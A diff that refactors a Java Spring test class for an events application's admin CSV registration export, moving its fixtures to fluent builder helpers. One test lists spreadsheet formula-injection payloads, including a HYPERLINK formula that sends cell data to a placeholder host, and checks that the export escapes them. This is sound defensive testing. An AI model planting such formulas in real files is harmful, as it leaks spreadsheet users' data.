@@ -14,6 +14,9 @@ import java.util.Map;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVRecord;
 import org.junit.jupiter.api.Test;
+import org.winformusic.events.IntegrationTest;
+import org.winformusic.events.TestEvents;
+import org.winformusic.events.TestRegistrations;
 
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
@@ -21,7 +24,6 @@ import org.springframework.jdbc.core.simple.JdbcClient;
 import org.springframework.security.test.context.support.WithMockUser;
 import org.springframework.test.web.servlet.MockMvc;
 import org.springframework.test.web.servlet.MvcResult;
-import org.winformusic.events.IntegrationTest;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
@@ -52,33 +54,35 @@ class ExportCsvTests {
 	@Autowired
 	Clock clock;
 
-	TestExportData data() {
-		return new TestExportData(this.jdbc);
+	TestRegistrations data() {
+		return new TestRegistrations(this.jdbc);
 	}
 
 	@Test
 	void everyStoredValueComesBackExactlyInTheDocumentedColumnOrder() throws Exception {
-		TestExportData data = data();
-		String slug = data.event("round-trip");
-		long plain = data.registration(slug).insert();
-		long tricky = data.registration(slug).with((r) -> {
-			r.fullName = "José Peña Ñúñez 🎶 مرحبا \"Pepe\", el de \"Discos\"";
-			r.company = "Sello, \"Quotes\" & Co.\r\nSegunda línea";
-			r.jobTitle = "Director; A&R";
-			r.comments = "Necesito rampa.\nY un intérprete de LSM.\r\n— gracias 🙏";
-			r.referralSource = "Instagram";
-			r.phone = null;
-			r.newsOptIn = true;
-			r.locale = "en";
-			r.companyType = "PUBLISHER";
-			r.state = "OUTSIDE_MX";
-			r.associationInterest = "MAYBE";
-			r.checkedInAt = Instant.parse("2028-04-01T16:05:09Z");
-		}).insert();
-		long cancelled = data.registration(slug).with((r) -> {
-			r.status = "CANCELLED";
-			r.cancelledAt = Instant.parse("2028-03-05T00:30:00Z");
-		}).insert();
+		TestRegistrations data = data();
+		String slug = new TestEvents(this.jdbc).event().slugPrefix("round-trip").withoutSeats().create().slug();
+		long plain = data.in(slug).create().id();
+		long tricky = data.in(slug)
+			.fullName("José Peña Ñúñez 🎶 مرحبا \"Pepe\", el de \"Discos\"")
+			.company("Sello, \"Quotes\" & Co.\r\nSegunda línea")
+			.jobTitle("Director; A&R")
+			.comments("Necesito rampa.\nY un intérprete de LSM.\r\n— gracias 🙏")
+			.referralSource("Instagram")
+			.phone(null)
+			.newsOptIn(true)
+			.locale("en")
+			.companyType("PUBLISHER")
+			.state("OUTSIDE_MX")
+			.associationInterest("MAYBE")
+			.checkedInAt(Instant.parse("2028-04-01T16:05:09Z"))
+			.create()
+			.id();
+		long cancelled = data.in(slug)
+			.status("CANCELLED")
+			.cancelledAt(Instant.parse("2028-03-05T00:30:00Z"))
+			.create()
+			.id();
 
 		List<CSVRecord> records = parse(export(slug, "lang=en"));
 
@@ -102,7 +106,7 @@ class ExportCsvTests {
 
 	@Test
 	void headersFollowTheRequestersLanguageSpanishByDefault() throws Exception {
-		String slug = data().event("spanish");
+		String slug = new TestEvents(this.jdbc).event().slugPrefix("spanish").withoutSeats().create().slug();
 		List<String> spanish = parse(export(slug, "")).get(0).toList();
 		assertThat(spanish).hasSize(ENGLISH_HEADERS.size());
 		assertThat(spanish.get(0)).isEqualTo("ID de registro");
@@ -112,8 +116,8 @@ class ExportCsvTests {
 
 	@Test
 	void formulaPayloadsOpenAsTextAndTheColumnCountStaysStable() throws Exception {
-		TestExportData data = data();
-		String slug = data.event("injection");
+		TestRegistrations data = data();
+		String slug = new TestEvents(this.jdbc).event().slugPrefix("injection").withoutSeats().create().slug();
 		Map<String, String> expected = new java.util.LinkedHashMap<>();
 		expected.put("=1+1", "'=1+1");
 		expected.put("+1", "'+1");
@@ -125,12 +129,7 @@ class ExportCsvTests {
 		expected.put("=HYPERLINK(\"http://x?\"&A1)", "'=HYPERLINK(\"http://x?\"&A1)");
 		expected.put("x\",=1+1", "x\",=1+1");
 		for (String payload : expected.keySet()) {
-			data.registration(slug).with((r) -> {
-				r.fullName = payload;
-				r.company = payload;
-				r.comments = payload;
-				r.phone = "+52 55 1234 5678";
-			}).insert();
+			data.in(slug).fullName(payload).company(payload).comments(payload).phone("+52 55 1234 5678").create();
 		}
 
 		List<CSVRecord> rows = parse(export(slug, "lang=en"));
@@ -149,8 +148,8 @@ class ExportCsvTests {
 
 	@Test
 	void fileStartsWithAByteOrderMarkAndIsADownloadNobodyCaches() throws Exception {
-		String slug = data().event("headers");
-		data().registration(slug).insert();
+		String slug = new TestEvents(this.jdbc).event().slugPrefix("headers").withoutSeats().create().slug();
+		data().in(slug).create();
 		String today = LocalDate.now(this.clock.withZone(ZoneId.of("America/Mexico_City"))).toString();
 		String fileName = slug + "-registrations-" + today + ".csv";
 
@@ -172,9 +171,9 @@ class ExportCsvTests {
 
 	@Test
 	void semicolonDelimiterForSpreadsheetsInSemicolonLocales() throws Exception {
-		TestExportData data = data();
-		String slug = data.event("semicolon");
-		data.registration(slug).with((r) -> r.company = "Uno; dos, tres").insert();
+		TestRegistrations data = data();
+		String slug = new TestEvents(this.jdbc).event().slugPrefix("semicolon").withoutSeats().create().slug();
+		data.in(slug).company("Uno; dos, tres").create();
 
 		String body = export(slug, "delimiter=semicolon&lang=en");
 
@@ -190,32 +189,32 @@ class ExportCsvTests {
 
 	@Test
 	void eachFilterSelectsTheSameRegistrationsAsTheEquivalentSql() throws Exception {
-		TestExportData data = data();
-		String slug = data.event("filters");
-		data.registration(slug).with((r) -> r.fullName = "José Álvarez").insert();
-		data.registration(slug).with((r) -> {
-			r.fullName = "Maria Lopez";
-			r.company = "Sello 100% Indie_MX";
-			r.status = "WAITLISTED";
-			r.confirmedAt = null;
-			r.companyType = "DISTRIBUTOR";
-			r.state = "JAL";
-			r.associationInterest = "NO";
-		}).insert();
-		data.registration(slug).with((r) -> {
-			r.email = "JOSE.OTHER@EXAMPLE.ORG";
-			r.status = "PENDING";
-			r.confirmedAt = null;
-			r.state = "NLE";
-			r.associationInterest = "MAYBE";
-			r.checkedInAt = Instant.parse("2028-04-01T16:00:00Z");
-		}).insert();
-		data.registration(slug).with((r) -> {
-			r.status = "CANCELLED";
-			r.companyType = "OTHER";
-			r.cancelledAt = Instant.parse("2028-03-02T16:00:00Z");
-		}).insert();
-		long eventId = data.eventId(slug);
+		TestRegistrations data = data();
+		String slug = new TestEvents(this.jdbc).event().slugPrefix("filters").withoutSeats().create().slug();
+		data.in(slug).fullName("José Álvarez").create();
+		data.in(slug)
+			.fullName("Maria Lopez")
+			.company("Sello 100% Indie_MX")
+			.status("WAITLISTED")
+			.confirmedAt(null)
+			.companyType("DISTRIBUTOR")
+			.state("JAL")
+			.associationInterest("NO")
+			.create();
+		data.in(slug)
+			.email("JOSE.OTHER@EXAMPLE.ORG")
+			.status("PENDING")
+			.confirmedAt(null)
+			.state("NLE")
+			.associationInterest("MAYBE")
+			.checkedInAt(Instant.parse("2028-04-01T16:00:00Z"))
+			.create();
+		data.in(slug)
+			.status("CANCELLED")
+			.companyType("OTHER")
+			.cancelledAt(Instant.parse("2028-03-02T16:00:00Z"))
+			.create();
+		long eventId = new TestEvents(this.jdbc).id(slug);
 
 		Map<String, String> filters = new java.util.LinkedHashMap<>();
 		filters.put("q=JOSE", "search_text like '%jose%'");
@@ -249,11 +248,11 @@ class ExportCsvTests {
 
 	@Test
 	void rowsComeInTheListPagesOrder() throws Exception {
-		TestExportData data = data();
-		String slug = data.event("order");
+		TestRegistrations data = data();
+		String slug = new TestEvents(this.jdbc).event().slugPrefix("order").withoutSeats().create().slug();
 		// ASCII names: the order of accented letters depends on the database's collation.
 		for (String name : List.of("bea", "Dora", "Carla", "ana")) {
-			data.registration(slug).with((r) -> r.fullName = name).insert();
+			data.in(slug).fullName(name).create();
 		}
 
 		assertThat(names(slug, "")).containsExactly("bea", "Dora", "Carla", "ana");
@@ -268,15 +267,11 @@ class ExportCsvTests {
 
 	@Test
 	void waitlistPositionsCountTheWholeWaitlistWhateverTheFilter() throws Exception {
-		TestExportData data = data();
-		String slug = data.event("waitlist");
-		data.registration(slug).insert();
+		TestRegistrations data = data();
+		String slug = new TestEvents(this.jdbc).event().slugPrefix("waitlist").withoutSeats().create().slug();
+		data.in(slug).create();
 		for (String name : List.of("Primera", "Segunda", "Tercera")) {
-			data.registration(slug).with((r) -> {
-				r.fullName = name;
-				r.status = "WAITLISTED";
-				r.confirmedAt = null;
-			}).insert();
+			data.in(slug).fullName(name).status("WAITLISTED").confirmedAt(null).create();
 		}
 
 		List<CSVRecord> all = parse(export(slug, ""));
@@ -288,7 +283,7 @@ class ExportCsvTests {
 
 	@Test
 	void anInvalidFilterValueGetsAClearPageInTheReadersLanguage() throws Exception {
-		String slug = data().event("bad-filter");
+		String slug = new TestEvents(this.jdbc).event().slugPrefix("bad-filter").withoutSeats().create().slug();
 		this.mvc.perform(get("/admin/events/" + slug + "/registrations.csv?status=CONFIRMADO&lang=en"))
 			.andExpect(status().isBadRequest())
 			.andExpect(content().contentTypeCompatibleWith("text/html"))
@@ -313,14 +308,14 @@ class ExportCsvTests {
 	@Test
 	@WithMockUser(roles = "ORGANIZER")
 	void organizersMayExport() throws Exception {
-		String slug = data().event("organizer");
+		String slug = new TestEvents(this.jdbc).event().slugPrefix("organizer").withoutSeats().create().slug();
 		this.mvc.perform(get("/admin/events/" + slug + "/registrations.csv")).andExpect(status().isOk());
 	}
 
 	@Test
 	@WithMockUser(roles = "ADMIN")
 	void adminsMayExport() throws Exception {
-		String slug = data().event("admin");
+		String slug = new TestEvents(this.jdbc).event().slugPrefix("admin").withoutSeats().create().slug();
 		this.mvc.perform(get("/admin/events/" + slug + "/registrations.xlsx")).andExpect(status().isOk());
 	}
 
